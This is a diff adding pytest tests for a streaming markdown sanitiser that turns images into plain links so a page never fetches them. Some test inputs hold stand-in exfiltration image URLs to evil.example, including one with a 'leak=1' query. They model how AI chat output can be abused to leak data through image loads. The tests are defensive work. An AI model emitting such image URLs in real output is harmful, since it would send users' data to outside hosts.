@@ -2,7 +2,7 @@
 
 import pytest
 
-from playground.markdown import SHOWN_URL_CHARS, unfetch_images
+from playground.markdown import SHOWN_URL_CHARS, unfetch_images, unfetch_stream
 
 
 def test_an_inline_image_becomes_a_link_showing_alt_and_url():
@@ -83,3 +83,32 @@ def test_an_image_inside_a_link_is_rewritten():
 def test_text_without_images_is_returned_as_is():
     text = "Plain **bold** [a link](https://e.com) and <img src='https://e.com/x.png'>"
     assert unfetch_images(text) is text
+
+
+def _streamed(pieces: list[str]) -> list[str]:
+    """What the page shows after each yielded delta."""
+    shown, states = "", []
+    for delta in unfetch_stream(pieces):
+        shown += delta
+        states.append(shown)
+    return states
+
+
+def test_a_streamed_image_is_never_drawn_even_when_split_across_pieces():
+    text = "Here is a cat: ![a cat](https://evil.example/cat.png?leak=1) and more.\nDone."
+    for size in (1, 3, 7, 20):
+        pieces = [text[i : i + size] for i in range(0, len(text), size)]
+        states = _streamed(pieces)
+        assert states[-1] == unfetch_images(text)
+        assert all("![" not in state for state in states)
+
+
+def test_a_stream_without_images_passes_through_piece_by_piece():
+    pieces = ["Hello", ", wor", "ld! ", "How are you?"]
+    assert list(unfetch_stream(pieces)) == ["Hello", ", wor", "ld! ", "How are you?"]
+
+
+def test_a_reference_image_defined_later_in_a_stream_is_not_drawn():
+    pieces = ["See ![chart][c] below.\n\n", "Text.\n\n", "[c]: https://evil.example/c.png\n"]
+    states = _streamed(pieces)
+    assert all("![" not in state or "[c]:" not in state for state in states)
